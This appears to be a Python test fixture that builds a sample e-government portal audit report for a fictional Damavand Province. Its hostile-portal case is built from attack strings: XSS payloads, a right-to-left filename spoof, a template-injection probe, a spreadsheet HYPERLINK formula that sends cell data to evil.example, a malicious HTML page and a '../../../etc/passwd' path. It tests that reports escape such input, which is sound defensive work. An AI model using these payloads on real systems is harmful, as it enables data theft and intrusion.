# ruff: noqa: E501  (records and pages, one to a line)
"""A small province with everything a report must cope with: a good portal, one that was down, one that was
never visited, and one whose pages were written to break out of the report."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from audits.records import ExternalLink, LighthouseRun, MeasuredPage, Measurement, Measurements
from crawler.capture import Capture, Comparison, Footprint, Host, Page, Visit
from crawler.portal import Names, Portal
from crawler.writer import CaptureWriter
from indicators.model import (
    Group,
    Indicator,
    Model,
    Option,
    OptionPoints,
    Question,
    Scale,
    Section,
    Stage,
    Text,
)
from indicators.records import Answer, Evidence, Finding, PageNumbers, Place, Problem
from indicators.scoring import score_portal
from reports.data import AgencyInput, ReportInput

STARTED = datetime(2025, 11, 22, 9, 30, tzinfo=UTC)

HOSTILE = "\"'><script>alert(1)</script><img src=x onerror=alert(2)>\u202egnp.exe\u2066{{7*7}}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LONG = "بسیار‌طولانی" * 40

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63606060f80f"
    "00010401005fe5c34b0000000049454e44ae426082"
)

HOME = """<!DOCTYPE html><html lang="fa" dir="rtl"><head><meta charset="utf-8"><title>اداره کل راهداری</title>
<link rel="stylesheet" href="/style.css"><script src="/app.js"></script><style>.x{background:url(/logo.png)}</style>
</head><body onload="alert(1)"><header><img src="/logo.png" width="60" height="60" alt="نشان"><nav><ul>
<li><a href="/">خانه</a></li><li><a href="/contact.html">تماس با ما</a></li></ul></nav></header>
<main><h1>به درگاه اداره کل راهداری خوش آمدید</h1><p>راه‌ها زیر پوشش ماست.</p>
<table><tr><td>اخبار</td><td id="n">گشایش راه روستایی</td></tr></table>
<form action="/search" method="get"><input name="q"><button>جست‌وجو</button></form>
<a href="javascript:alert(1)">چاپ</a></main>
<div style="height:1800px"></div><footer><p>تلفن: <b>۰۴۴-۳۳۴۴۵۵۶۶</b> نشانی: دماوند، خیابان امام</p></footer></body></html>"""

CONTACT = """<!DOCTYPE html><html lang="fa" dir="rtl"><head><meta charset="utf-8"><title>تماس با ما</title>
<link rel="stylesheet" href="/style.css"></head><body><h1>تماس با ما</h1>
<p>رایانامه: <a href="mailto:info@roads.damavand.example">info@roads.damavand.example</a></p></body></html>"""

EVIL = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<title></title><script>document.title='x'</script><link rel=stylesheet href="https://evil.example/x.css"></head>
<body background="https://evil.example/b.png"><iframe src="https://evil.example/"></iframe>
<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>hi</text></a></svg>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<a href=" java\tscript:alert(1)" onclick="alert(1)">c</a><img src="https://evil.example/t.gif" onerror="alert(1)">
<div style="background:url(https://evil.example/bg.png);position:fixed;inset:0">X</div>
<style>@import "https://evil.example/i.css"; body{background:url('https://evil.example/c.png')}</style>
<p id="e">%s</p><object data="https://evil.example/o"></object><form action="https://evil.example/f"><input autofocus>
</form></body></html>"""


def text(fa: str, en: str) -> Text:
    return Text(fa=fa, en=en)


YES_NO = Scale(
    id="yes_no",
    kind="presence",
    options=(Option(id="yes", name=text("بله", "Yes")),),
    zero=Option(id="no", name=text("خیر", "No")),
)
AMOUNT = Scale(
    id="amount",
    kind="graded",
    options=tuple(
        Option(id=i, name=text(fa, en))
        for i, fa, en in (
            ("very_high", "خیلی زیاد", "Very high"),
            ("high", "زیاد", "High"),
            ("medium", "متوسط", "Medium"),
            ("low", "کم", "Low"),
            ("very_low", "خیلی کم", "Very low"),
        )
    ),
    zero=Option(id="none", name=text("هیچ", "None")),
)

_STAGES = (
    ("emerging", "پیدایش", "Emerging"),
    ("enhanced", "ارتقا", "Enhanced"),
    ("interactive", "تعامل", "Interactive"),
    ("transactional", "تراکنش", "Transactional"),
    ("connected", "یکپارچگی", "Connected"),
)
_INDICATORS = (
    ("contact_info", "emerging", "yes_no", "presence", "معرفی اطلاعات تماس در درگاه سازمان", "Contact information on the portal", 1.6),
    ("news", "emerging", "amount", "graded", "اطلاع‌رسانی اخبار مرتبط درون و برون سازمانی در درگاه", "Relevant news on the portal", 1.6),
    ("email_available", "enhanced", "yes_no", "presence", "در دسترس بودن ایمیل سازمانی", "E-mail address available", 1.2),
    ("privacy_policy", "enhanced", "yes_no", "presence", "معرفی سیاست‌های حریم خصوصی درگاه سازمان", "Privacy policy on the portal", 1.0),
    ("download_speed", "interactive", "amount", "graded", "سرعت بارگیری درگاه رسمی سازمان", "Loading speed of the portal", 2.7),
    ("egov_strategy", "interactive", "yes_no", "hint", "وجود سند راهبردی دولت الکترونیک", "E-government strategy", 4.0),
    ("tender_notices", "transactional", "yes_no", "presence", "اعلان اطلاعات مناقصات در درگاه سازمان", "Tender notices on the portal", 4.0),
    ("internal_network", "connected", "yes_no", "manual", "وجود شبکهٔ الکترونیک داخلی در سازمان", "Internal network", 4.0),
)  # fmt: skip


def model() -> Model:
    indicators = []
    for number, (name, stage, scale, mode, fa, en, maximum) in enumerate(_INDICATORS, 1):
        options = {"yes_no": YES_NO, "amount": AMOUNT}[scale].options
        steps = {o.id: round(maximum * (1 - 0.18 * i), 2) for i, o in enumerate(options)}
        indicators.append(
            Indicator(
                id=name,
                stage=stage,
                group=f"{stage}_content",
                order=number,
                name=text(fa, en),
                maximum=maximum,
                questions=(str(number),),
                scale=scale,
                points={o: OptionPoints(points=p, basis="stated") for o, p in steps.items()},
                mode=mode,  # type: ignore[arg-type]
                rule=text(f"آنچه باید برای «{fa}» دیده شود.", f"What must be seen for “{en}”."),
            )
        )
    return Model(
        id="sample",
        version="1",
        name=text("مدل نمونه", "Sample model"),
        source=text("آزمون", "A test"),
        answer_order=("analyst", "automatic", "self_reported"),
        automatic_modes=("presence", "graded"),
        unknown_option=text("اطلاع مشخصی نیست", "No information"),
        stages=tuple(
            Stage(
                id=i,
                number=n,
                name=text(fa, en),
                maximum=round(sum(row[6] for row in _INDICATORS if row[1] == i), 6),
            )
            for n, (i, fa, en) in enumerate(_STAGES, 1)
        ),
        groups=tuple(
            Group(id=f"{i}_content", stage=i, name=text(f"محتوای {fa}", f"{en} content"))
            for i, fa, en in _STAGES
        ),
        scales=(YES_NO, AMOUNT),
        sections=(Section(id="all", name=text("همه", "All")),),
        questions=tuple(
            Question(number=str(n), section="all", scale=row[2], text=text(f"آیا {row[4]}؟", f"{row[5]}?"))
            for n, row in enumerate(_INDICATORS, 1)
        ),
        indicators=tuple(indicators),
    )


def portal(name: str, fa: str, en: str, **more: object) -> Portal:
    return Portal.model_validate(
        {
            "id": name,
            "names": {"fa": fa, "en": en},
            "kind": "directorate",
            "mission": {"fa": f"مأموریت {fa}", "en": f"What {en} is for"},
            "start": f"http://{name}.damavand.example/",
            **more,
        }
    )


@dataclass
class Recorded:
    """Writes a capture by hand and remembers its records."""

    writer: CaptureWriter
    base: str
    number: int = 0

    def exchange(self, path: str, body: bytes, media_type: str) -> str:
        with self.writer.commit():
            return self.writer.archive_exchange(
                self.base + path,
                method="GET",
                request_headers=[("User-Agent", "test")],
                status_line="200 OK",
                response_headers=[("Content-Type", media_type)],
                body=body,
                at=STARTED,
            )

    def page(self, path: str, body: str, title: str) -> Page:
        record = self.exchange(path, body.encode(), "text/html; charset=utf-8")
        self.number += 1
        page = Page(
            id=self.number,
            url=self.base + path,
            final_url=self.base + path,
            status=200,
            outcome="ok",
            fetched_at=STARTED + timedelta(seconds=self.number),
            seconds=0.2,
            media_type="text/html",
            charset="utf-8",
            language="fa",
            depth=0,
            title=title,
            found_by="start" if self.number == 1 else "link",
            found_on=None,
            mode="plain",
            record_id=record,
            bytes=len(body),
            text_length=100,
        )
        with self.writer.commit():
            self.writer.add(page)
        return page


def visit(name: str, outcome: str = "ok", **more: object) -> Visit:
    return Visit.model_validate(
        {
            "portal": name,
            "started_at": STARTED,
            "finished_at": STARTED + timedelta(minutes=3),
            "outcome": outcome,
            "reason": "",
            "complete": True,
            "stopped_by": "",
            "footprint": Footprint(
                requests=48,
                bytes=2_345_678,
                seconds=171.4,
                highest_rate=2.5,
                refusals=3,
                refused_for={"could change something": 2, "robots.txt forbids it": 1},
            ),
            **more,
        }
    )


def self_reported(name: str, options: dict[str, str | None], **more: object) -> list[Answer]:
    return [
        Answer.model_validate(
            {
                "portal": name,
                "indicator": indicator,
                "source": "self_reported",
                "option": option,
                "points": None,
                "who": "روابط عمومی",
                "at": STARTED - timedelta(days=20),
                **more,
            }
        )
        for indicator, option in options.items()
    ]


def evidence(page: Page, excerpt: str, locator: str, kind: str = "text", note: str = "") -> Evidence:
    return Evidence.model_validate(
        {
            "url": page.url,
            "seen_at": page.fetched_at,
            "kind": kind,
            "excerpt": excerpt,
            "locator": locator,
            "warc_record": page.record_id,
            "page": page.id,
            "note": note,
        }
    )


def finding(name: str, indicator: str, answer: str | None, **more: object) -> Finding:
    base = {
        "portal": name,
        "indicator": indicator,
        "answer": answer,
        "confidence": 0.9,
        "detector": indicator,
        "version": 1,
    }
    return Finding.model_validate({**base, **more})


def sample(root: Path) -> tuple[ReportInput, Callable[[str], Capture | None]]:
    """The input of a report, with real captures below `root`."""
    chosen = model()
    agencies = [_good(root, chosen), _down(chosen), _hostile(root, chosen), _never(chosen)]
    report = ReportInput(
        run="2025-11-22-a",
        started_at=STARTED,
        finished_at=STARTED + timedelta(minutes=9),
        model=chosen,
        province=Names(fa="استان دماوند", en="Damavand Province"),
        kinds={"directorate": Names(fa="اداره کل", en="General directorate")},
        agencies=tuple(agencies),
    )

    def captures(name: str) -> Capture | None:
        folder = root / name
        return Capture(folder) if (folder / "capture.sqlite").exists() else None

    return report, captures


def _good(root: Path, chosen: Model) -> AgencyInput:
    own = portal(
        "roads", "اداره کل راهداری و حمل‌ونقل جاده‌ای استان دماوند", "Damavand Road Maintenance and Transport"
    )
    with CaptureWriter(root / "roads", own) as writer:
        recorded = Recorded(writer, "http://roads.damavand.example")
        recorded.exchange(
            "/style.css",
            b"body{font-family:Tahoma;background:#eef url(/logo.png) no-repeat} b{color:#900}",
            "text/css",
        )
        recorded.exchange("/logo.png", PIXEL, "image/png")
        home = recorded.page("/", HOME, "اداره کل راهداری")
        contact = recorded.page("/contact.html", CONTACT, "تماس با ما")
        sitemap = recorded.exchange(
            "/sitemap.xml", b"<urlset><url><loc>/</loc></url></urlset>", "application/xml"
        )
        with writer.commit():
            writer.save_visit(visit("roads"))
    findings = (
        finding(
            "roads",
            "contact_info",
            "yes",
            evidence=(
                evidence(home, "تلفن: ۰۴۴-۳۳۴۴۵۵۶۶", "/html/body/footer/p", note="telephone"),
                evidence(contact, "info@roads.damavand.example", "/html/body/p/a", kind="link"),
                Evidence(
                    url="http://roads.damavand.example/sitemap.xml",
                    seen_at=STARTED,
                    kind="sitemap",
                    excerpt="<loc>/</loc>",
                    warc_record=sitemap,
                ),
            ),
        ),
        finding(
            "roads",
            "news",
            "low",
            evidence=(evidence(home, "گشایش راه روستایی", "/html/body/main/table/tr/td[2]"),),
            details={"dated_items": 3, "services": 3},
        ),
        finding(
            "roads",
            "email_available",
            "yes",
            evidence=(evidence(contact, "info@roads.damavand.example", "//nowhere"),),
        ),
        finding(
            "roads",
            "privacy_policy",
            "no",
            visited=(
                Place(url=home.url, title=home.title, reason="no such words"),
                Place(url="http://roads.damavand.example/privacy", title="", reason="http_error"),
            ),
        ),
        finding(
            "roads",
            "download_speed",
            "high",
            evidence=(Evidence(url=home.url, seen_at=STARTED, kind="measurement", excerpt="LCP 2100 ms"),),
            details={"lcp": 2100.0, "share": 0.8},
            pages=(
                PageNumbers(url=home.url, page=home.id, values={"lcp": 2100.0, "ttfb": 180.0}),
                PageNumbers(url=home.url + "gone", values={"lcp": None}, reason="timed out"),
            ),
            limits={"share": ("level_very_high", "level_high")},
        ),
        finding("roads", "tender_notices", None, reason="refused: robots.txt", confidence=0),
    )
    answers = [
        *self_reported(
            "roads",
            {
                "contact_info": "yes",
                "news": "very_high",
                "privacy_policy": "yes",
                "egov_strategy": "yes",
                "internal_network": "unknown",
            },
        ),
        *self_reported("roads", {"download_speed": None}, points=2.2),
        Answer(
            portal="roads",
            indicator="tender_notices",
            source="analyst",
            option="yes",
            points=None,
            who="کارشناس",
            at=STARTED,
            note="در سامانهٔ ملی دیده شد",
        ),
    ]
    folder = root / "roads-measurements"
    folder.mkdir(parents=True)
    (folder / "lh.html").write_text("<!doctype html><title>Lighthouse</title><p>report</p>", encoding="utf-8")
    (folder / "lh.json").write_text('{"lighthouseVersion": "12.8.2"}', encoding="utf-8")
    measured = [
        Measurement(name=name, value=value, unit=unit, url=home.url, device=device, method="browser", runs=(value * 0.9, value, value * 1.2) if unit in ("ms", "ratio") else (value,) * 3, measured_at=STARTED)
        for device in ("phone", "desktop")
        for name, value, unit in (("ttfb", 180.0, "ms"), ("fcp", 900.0, "ms"), ("lcp", 2100.0, "ms"), ("cls", 0.024, "ratio"), ("requests", 12.0, "count"), ("transfer_bytes", 250_000.0, "bytes"))
    ]  # fmt: skip
    measured.append(
        Measurement(
            name="tbt",
            value=None,
            unit="ms",
            url=home.url,
            device="phone",
            method="browser",
            reason="the page crashed",
            measured_at=STARTED,
        )
    )
    return AgencyInput(
        portal=own,
        visit=visit("roads"),
        scores=score_portal("roads", chosen, findings, answers),
        hosts=(Host(host="roads.damavand.example", robots_status=200, robots_text="User-agent: *\nDisallow: /admin/\n", crawl_delay=2, sitemaps=("http://roads.damavand.example/sitemap.xml",)),),
        measurements=Measurements(
            portal="roads",
            chromium="130",
            pages=(MeasuredPage(kind="home", url=home.url), MeasuredPage(kind="contact", url=contact.url)),
            measurements=tuple(measured),
            lighthouse=(
                LighthouseRun(url=home.url, version="12.8.2", ok=True, html_path="lh.html", json_path="lh.json", scores={"performance": 0.86, "accessibility": 1.0, "best-practices": None, "seo": 0.9}, seconds=20, measured_at=STARTED),
                LighthouseRun(url=contact.url, version="12.8.2", ok=False, reason="NO_FCP", html_path="../../../etc/passwd", seconds=20, measured_at=STARTED),
            ),
            links=(
                ExternalLink(url="http://old.example/gone", page=home.url, text="<b>سامانهٔ قدیم</b>", pages=3, state="broken", reason="status 404", status=404, checked_at=STARTED),
                ExternalLink(url="https://ministry.example/", page=home.url, text="وزارت", pages=9, state="works", status=200, checked_at=STARTED),
                ExternalLink(url="https://slow.example/", page=contact.url, text="کند", pages=1, reason="no answer in time", checked_at=STARTED),
            ),
        ),
        measurements_folder=folder,
        findings=findings,
        answers=tuple(answers),
        comparisons=tuple(
            Comparison(page=n, kind="/*", reason=reason, gained=n == 2, text=900, rendered_text=900, links=9, rendered_links=9, targets=0, failure=failure)
            for n, (reason, failure) in enumerate((("start", ""), ("check", ""), ("check", ""), ("check", ""), ("check", "the page crashed")), 1)
        ),
        problems=(
            Problem(kind="broken_link", url=home.url, text="نقشهٔ سایت", target=f"{home.url}map", reason="http_error: status 404"),
            Problem(kind="duplicate", url=contact.url, target=home.url),
            *(Problem(kind="repeated_title", url=f"{home.url}{n}", text="<i>بدون عنوان</i>") for n in range(60)),
        ),
    )  # fmt: skip


def _down(chosen: Model) -> AgencyInput:
    own = portal("water", "شرکت آب و فاضلاب استان دماوند", "Damavand Water Company", kind="company")
    there = visit(
        "water",
        "unreachable",
        reason="connection refused",
        footprint=Footprint(requests=3, bytes=0, seconds=9, highest_rate=0.3, refusals=0),
    )
    findings = tuple(
        finding("water", i.id, None, reason="unreachable: connection refused", confidence=0)
        for i in chosen.indicators
        if i.mode in ("presence", "graded")
    )
    answers = self_reported("water", {"contact_info": "yes", "news": "none", "tender_notices": "yes"})
    return AgencyInput(
        own,
        there,
        score_portal("water", chosen, findings, answers),
        findings=findings,
        answers=tuple(answers),
    )


def _hostile(root: Path, chosen: Model) -> AgencyInput:
    own = portal("hostile", f"سازمان {LONG}", HOSTILE, start="https://hostile.example/" + "a" * 300)
    with CaptureWriter(root / "hostile", own) as writer:
        recorded = Recorded(writer, "https://hostile.example")
        page = recorded.page("/" + "x" * 400, EVIL % HOSTILE, HOSTILE)
        there = visit("hostile", complete=False, stopped_by="budget", reason=HOSTILE)
        with writer.commit():
            writer.save_visit(there)
    findings = (
        finding(
            "hostile",
            "contact_info",
            "yes",
            evidence=(
                evidence(page, HOSTILE, "//p[@id='e']", note=HOSTILE),
                Evidence(url="javascript:alert(1)", seen_at=STARTED, kind="link", excerpt=FORMULA),
                Evidence(
                    url="https://hostile.example/y",
                    seen_at=STARTED,
                    kind="text",
                    excerpt=LONG,
                    locator="]][[",
                    warc_record="<urn:uuid:missing>",
                ),
            ),
            details={"share": 0.5, "note": HOSTILE},
        ),
        finding(
            "hostile",
            "email_available",
            "no",
            visited=(Place(url="javascript:alert(1)", title=HOSTILE, reason=HOSTILE),),
        ),
        finding("hostile", "news", None, reason=HOSTILE, confidence=0),
    )
    answers = self_reported(
        "hostile", {"contact_info": "no", "email_available": "yes"}, who=HOSTILE, note=FORMULA
    )
    return AgencyInput(
        own,
        there,
        score_portal("hostile", chosen, findings, answers),
        hosts=(
            Host(
                host="hostile.example",
                robots_status=200,
                robots_text=HOSTILE,
                crawl_delay=None,
                sitemaps=("javascript:alert(1)",),
            ),
        ),
        findings=findings,
        answers=tuple(answers),
    )


def _never(chosen: Model) -> AgencyInput:
    own = portal("culture", "اداره کل فرهنگ و ارشاد", "Culture Directorate")
    return AgencyInput(own, None, score_portal("culture", chosen, (), ()), reason="interrupted")
